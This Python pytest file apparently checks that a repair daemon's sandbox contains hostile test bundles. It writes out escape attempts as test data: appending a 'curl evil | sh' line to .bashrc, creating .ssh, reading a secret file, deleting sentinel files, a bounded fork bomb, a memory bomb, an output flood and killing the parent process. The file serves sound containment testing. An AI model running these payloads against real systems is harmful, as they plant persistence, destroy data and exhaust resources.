"""Hostile bundles: code that tries to escape, run by a real daemon in a child process.

Each bundle's tests pass only if its escape works (connect out, write into the state
root or the home directory, fork or allocate without bound, flood the output, delete
files outside its scratch directory, kill its parent). So an attempt that fails makes
the bundle fail, and with `max_failures = 1` it lands in `processed/hard_fail/`. The
test then checks the target itself (the listener accepted nothing, the files are
unchanged, no process is left), in case an escape "succeeded" without the bundle
noticing, and that the daemon is alive and repairs a good handoff afterwards.

Containment, whatever the sandbox does: this test process is a child subreaper
before it starts anything, so every orphan of a bundle stays in our tree; the fork
bomb is bounded in count (3 children per process, 6 levels: 1,092 at most) and in
lifetime (each process arms a 5 s alarm); the memory bomb asks 3 GiB of untouched
pages; a bundle kills at most its own parent, once. Leftovers are killed by pid.
"""

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import select
import signal
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import PASSING, AsUser, names, variant, wait_for
from repairlab.cli.submit import build_handoff, enqueue
from repairlab.state.layout import Layout

REPO = Path(__file__).resolve().parent.parent
PR_SET_CHILD_SUBREAPER = 36
ENTRY = "calc.py"
CALC = "def add(a, b):\n    return a + b\n"

pytestmark = pytest.mark.timeout(60)


@dataclass
class Env:
    """The daemon and everything the hostile bundles are told about."""

    base: Path
    layout: Layout
    daemon: subprocess.Popen[bytes]
    home: Path
    sentinel: Path
    secret: str
    log: Path
    user: AsUser  # who the daemon runs as (root, or unprivileged as the unit runs it)


def set_subreaper(on: bool) -> None:
    """With `on`, orphans of anything we start are reparented to us, not to init."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.prctl(PR_SET_CHILD_SUBREAPER, int(on), 0, 0, 0) != 0:
        pytest.skip(f"prctl(PR_SET_CHILD_SUBREAPER) failed: errno {ctypes.get_errno()}")


def reap_orphans(keep: set[int]) -> None:
    """Reap zombies reparented to us (never a child someone still waits for)."""
    for pid in children_of(os.getpid()) - keep:
        try:
            os.waitpid(pid, os.WNOHANG)
        except ChildProcessError:
            pass


def children_of(ppid: int) -> set[int]:
    found = set()
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            status = Path(entry.path, "status").read_text()
        except OSError:
            continue
        for line in status.splitlines():
            if line.startswith("PPid:") and int(line.split()[1]) == ppid:
                found.add(int(entry.name))
    return found


def processes_named(comm: str) -> list[int]:
    """Live (not zombie) pids whose kernel name (`/proc/PID/comm`, set by PR_SET_NAME)
    is `comm`."""
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if Path(entry.path, "comm").read_text().strip() != comm:
                    continue
                state = Path(entry.path, "stat").read_text().rsplit(")", 1)[1].split()[0]
            except (OSError, IndexError):
                continue
            if state != "Z":
                found.append(int(entry.name))
    return found


def snapshot(directory: Path) -> dict[str, str]:
    """Every path under `directory` with a digest of its content (or its kind)."""
    out = {}
    for path in sorted(directory.rglob("*")):
        rel = str(path.relative_to(directory))
        if path.is_symlink():
            out[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            out[rel] = "dir"
    return out


@pytest.fixture(scope="module", params=["root", "unprivileged"])
def env(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest
        ) -> Iterator[Env]:
    """A daemon (`run.py run`) in a child process over a fresh root, with noop only,
    one failure to quarantine, and 5 s per test run; a fake home and a sentinel.
    Once as the suite's user (root in CI), once as an unprivileged user that owns
    the state root (as the unit runs it)."""
    user: AsUser = request.getfixturevalue(f"{request.param}_user")
    with user.workdir(tmp_path_factory.mktemp("hb")) as base:
        yield from _env(user, base)


def _env(user: AsUser, base: Path) -> Iterator[Env]:
    set_subreaper(True)
    root = base / "state"
    root.mkdir(mode=0o700)
    user.own(root)
    home = base / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the operator's own\n")
    sentinel = base / "keep" / "sentinel.txt"
    sentinel.parent.mkdir()
    sentinel.write_text("must survive\n")
    secret = f"secret-{uuid.uuid4().hex}"
    (base / "keep" / "secret.txt").write_text(secret)
    config = base / "repairlab.toml"
    config.write_text(
        f'[paths]\nroot = "{root}"\n\n[instance]\nid = "hostile-bundles"\n\n'
        '[failure_window]\nmax_failures = 1\n\n'
        '[repair]\nworkers = 2\nstrategies = ["noop"]\ntest_timeout_seconds = 5\n'
        'bundle_timeout_seconds = 20\n\n[watch]\nrescan_seconds = 0.3\nheartbeat_seconds = 1\n'
    )
    log = base / "daemon.log"
    environ = {k: v for k, v in os.environ.items()
               if k not in ("REPAIRLAB_CONFIG", "REPAIRLAB_FAULTS")}
    environ["HOME"] = str(home)
    with open(log, "wb") as out:
        daemon = subprocess.Popen([sys.executable, str(REPO / "run.py"), "run", "--config",
                                   str(config)], stdout=out, stderr=subprocess.STDOUT,
                                  cwd=base, env=environ, **user.popen)
    layout = Layout.at(root)
    try:
        wait_for(lambda: (layout.instances / "hostile-bundles.json").exists()
                 or daemon.poll() is not None, timeout=30, what="daemon heartbeat")
        assert daemon.poll() is None, log.read_text()
        yield Env(base, layout, daemon, home, sentinel, secret, log, user)
    finally:
        if daemon.poll() is None:
            daemon.terminate()
            try:
                daemon.wait(timeout=30)
            except subprocess.TimeoutExpired:
                daemon.kill()
                daemon.wait(timeout=10)
        reap_orphans(keep=set())
        set_subreaper(False)


_count = iter(range(1000))


def run_bundle(env: Env, name: str, files: dict[str, str], timeout: float = 40) -> str:
    """Enqueue a bundle (as the daemon's user, as a producer would) and wait for its
    terminal place: `done`, `hard_fail` or `corrupt`."""
    env.user.call(enqueue, env.layout, build_handoff(files, "hostile", ENTRY, "hostile"),
                  "hostile", name)
    places = {"done": env.layout.done, "hard_fail": env.layout.hard_fail,
              "corrupt": env.layout.corrupt}
    found: list[str] = []

    def landed() -> bool:
        assert env.daemon.poll() is None, f"daemon died: {env.log.read_text()[-3000:]}"
        found.extend(p for p, d in places.items() if name in names(d))
        return bool(found)

    wait_for(landed, timeout=timeout, what=f"{name} in a terminal place")
    return found[0]


def reason_of(env: Env, name: str) -> dict[str, object]:
    path = env.layout.hard_fail / name.replace(".json", ".reason.json")
    data: dict[str, object] = json.loads(path.read_text())
    return data


def daemon_still_works(env: Env) -> None:
    """The daemon is alive and repairs a fresh good bundle."""
    assert env.daemon.poll() is None, env.log.read_text()[-3000:]
    n = next(_count)
    name = f"good-{n}.json"
    place = run_bundle(env, name, variant(PASSING, 5000 + n), 30)
    assert place == "done"


def hostile(test_body: str, calc: str = CALC) -> dict[str, str]:
    """A bundle whose one test is `test_body` (indented function body)."""
    body = "\n".join("    " + line if line else "" for line in test_body.strip("\n").splitlines())
    return {ENTRY: calc,
            "test_escape.py": f"import os\nimport sys\n\n\ndef test_escape():\n{body}\n"}


def assert_quarantined_as_failed(env: Env, name: str, place: str) -> None:
    assert place == "hard_fail", (
        f"{name} ended in {place}: its escape worked ({env.log.read_text()[-2000:]})")
    reason = reason_of(env, name)
    assert reason["failures"], reason


# -- the escapes -------------------------------------------------------------------------


def network_namespace_available() -> bool:
    """bwrap can give a child its own network namespace here (SPEC §3: "no network
    where the system allows"; without it, the test below cannot demand isolation)."""
    try:
        probe = subprocess.run(["bwrap", "--ro-bind", "/", "/", "--unshare-net", "true"],
                               capture_output=True, timeout=10)
    except (OSError, subprocess.TimeoutExpired):
        return False
    return probe.returncode == 0


def test_bundle_cannot_connect_to_a_listening_socket_on_localhost(env: Env) -> None:
    if not network_namespace_available():
        pytest.skip("bubblewrap cannot make a network namespace on this system")
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    port = listener.getsockname()[1]
    try:
        files = hostile(f"""
import socket
with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
    s.sendall(b"escaped")
""")
        place = run_bundle(env, "net.json", files)
        readable, _, _ = select.select([listener], [], [], 0.2)
        assert readable == [], "a bundle connected to the test's listener"
    finally:
        listener.close()
    assert_quarantined_as_failed(env, "net.json", place)
    daemon_still_works(env)


def test_bundle_cannot_write_into_the_state_root_even_from_module_code(env: Env) -> None:
    layout = env.layout
    marker = f"pwned-{uuid.uuid4().hex}"
    evil = json.dumps(json.loads(build_handoff(PASSING, "evil", ENTRY)) | {"id": marker})
    # The writes run when the test imports the module under repair.
    calc = CALC + f"""

import os as _os
WROTE = []
for _target, _data in [({str(layout.root / "pwned.txt")!r}, {marker!r}),
                       ({str(layout.queue / "evil.json")!r}, {evil!r}),
                       ({str(layout.metrics)!r}, {marker!r} + "\\n"),
                       ({str(layout.challengers / "challenger_evil.json")!r}, {marker!r})]:
    try:
        with open(_target, "a") as _f:
            _f.write(_data)
        WROTE.append(_target)
    except OSError:
        pass
"""
    before = snapshot(layout.challengers)
    place = run_bundle(env, "root-write.json", hostile("import calc\nassert calc.WROTE", calc))
    assert not (layout.root / "pwned.txt").exists()
    assert "evil.json" not in names(layout.queue) + names(layout.done) + names(layout.corrupt)
    for line in layout.metrics.read_text().splitlines():
        assert isinstance(json.loads(line), dict)  # a line the bundle appended would not be
    assert snapshot(layout.challengers) == before
    assert_quarantined_as_failed(env, "root-write.json", place)
    daemon_still_works(env)


def test_bundle_cannot_write_into_the_home_directory(env: Env) -> None:
    before = snapshot(env.home)
    files = hostile(f"""
home = {str(env.home)!r}
wrote = []
for name in (".bashrc", ".profile", "pwned.txt"):
    try:
        with open(os.path.join(home, name), "a") as f:
            f.write("curl evil | sh\\n")
        wrote.append(name)
    except OSError:
        pass
try:
    os.makedirs(os.path.join(home, ".ssh"), exist_ok=True)
    wrote.append(".ssh")
except OSError:
    pass
assert wrote
""")
    place = run_bundle(env, "home-write.json", files)
    assert snapshot(env.home) == before
    assert_quarantined_as_failed(env, "home-write.json", place)
    daemon_still_works(env)


def test_bundle_cannot_delete_or_create_files_outside_its_scratch_directory(env: Env) -> None:
    planted = REPO / "repair" / f"pwned_{uuid.uuid4().hex}.py"
    before = snapshot(env.sentinel.parent)
    files = hostile(f"""
import shutil
done = []
for action in (lambda: os.remove({str(env.sentinel)!r}),
               lambda: shutil.rmtree({str(env.sentinel.parent)!r}),
               lambda: open({str(planted)!r}, "w").close(),
               lambda: shutil.rmtree({str(env.layout.done)!r})):
    try:
        action()
        done.append(action)
    except OSError:
        pass
assert done
""")
    try:
        place = run_bundle(env, "delete.json", files)
        assert not planted.exists(), "a bundle created a file in repairlab's own code"
    finally:
        planted.unlink(missing_ok=True)
    assert env.sentinel.read_text() == "must survive\n"
    assert snapshot(env.sentinel.parent) == before
    assert env.layout.done.is_dir()
    assert_quarantined_as_failed(env, "delete.json", place)
    daemon_still_works(env)


def test_bundle_cannot_read_secrets_outside_its_scratch_into_any_output(env: Env) -> None:
    files = hostile(f"""
found = []
for path in ({str(env.sentinel.parent / "secret.txt")!r}, {str(env.layout.metrics)!r}):
    try:
        with open(path) as f:
            found.append(f.read())
    except OSError:
        pass
print("LEAK", found)
assert found
""")
    place = run_bundle(env, "read.json", files)
    for path in env.layout.root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert env.secret not in path.read_text(errors="replace"), path
    assert_quarantined_as_failed(env, "read.json", place)
    daemon_still_works(env)


def test_bounded_fork_bomb_is_contained_and_leaves_no_process(env: Env) -> None:
    comm = f"fb{uuid.uuid4().hex[:10]}"
    files = hostile(f"""
import ctypes
import signal
import time


def bomb(depth):
    # 3 children per process, 6 levels: 1,092 processes at most, each dead within 5 s.
    pids = []
    for _ in range(3):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            code = 1
            try:
                signal.alarm(5)
                ctypes.CDLL(None).prctl(15, {comm.encode()!r}, 0, 0, 0)
                code = bomb(depth - 1) if depth > 0 else (time.sleep(2) or 0)
            finally:
                os._exit(code)
        pids.append(pid)
    failed = 3 - len(pids)
    for pid in pids:
        _, status = os.waitpid(pid, 0)
        failed += status != 0
    return 1 if failed else 0


assert bomb(5) == 0
""")
    try:
        place = run_bundle(env, "fork-bomb.json", files)

        def gone() -> bool:
            reap_orphans(keep={env.daemon.pid})  # orphans of the bomb are reparented to us
            return not processes_named(comm)

        wait_for(gone, timeout=15, what="fork bomb gone")
    finally:
        for pid in processes_named(comm):  # only ours: the name is unique to this test
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        reap_orphans(keep={env.daemon.pid})
    assert_quarantined_as_failed(env, "fork-bomb.json", place)
    daemon_still_works(env)


def test_memory_bomb_of_three_gib_fails_and_the_daemon_lives(env: Env) -> None:
    files = hostile("""
blocks = [bytearray(2**30) for _ in range(3)]
assert sum(len(b) for b in blocks) == 3 * 2**30
""")
    place = run_bundle(env, "memory-bomb.json", files)
    assert_quarantined_as_failed(env, "memory-bomb.json", place)
    daemon_still_works(env)


def test_endless_output_is_cut_and_bounded_everywhere(env: Env) -> None:
    files = hostile("""
chunk = "x" * 65536
while True:
    sys.stdout.write(chunk)
    sys.stderr.write(chunk)
    os.write(1, chunk.encode())
    os.write(2, chunk.encode())
""")
    place = run_bundle(env, "flood.json", files)
    assert_quarantined_as_failed(env, "flood.json", place)
    reason = reason_of(env, "flood.json")
    assert len(str(reason.get("last_test_output") or "")) <= 64 * 1024
    total = sum(p.stat().st_size for p in env.layout.root.rglob("*") if p.is_file())
    assert total < 8 * 2**20, f"state root grew to {total} bytes"
    daemon_still_works(env)


def test_bundle_killing_its_parent_once_leaves_the_daemon_running(env: Env) -> None:
    files = hostile("""
import signal
import time

parent = os.getppid()
try:
    os.kill(parent, signal.SIGKILL)
except OSError:
    pass
time.sleep(0.5)
assert os.getppid() != parent, "the parent is still alive"
""")
    place = run_bundle(env, "kill-parent.json", files)
    assert env.daemon.poll() is None, env.log.read_text()[-3000:]
    assert_quarantined_as_failed(env, "kill-parent.json", place)
    daemon_still_works(env)
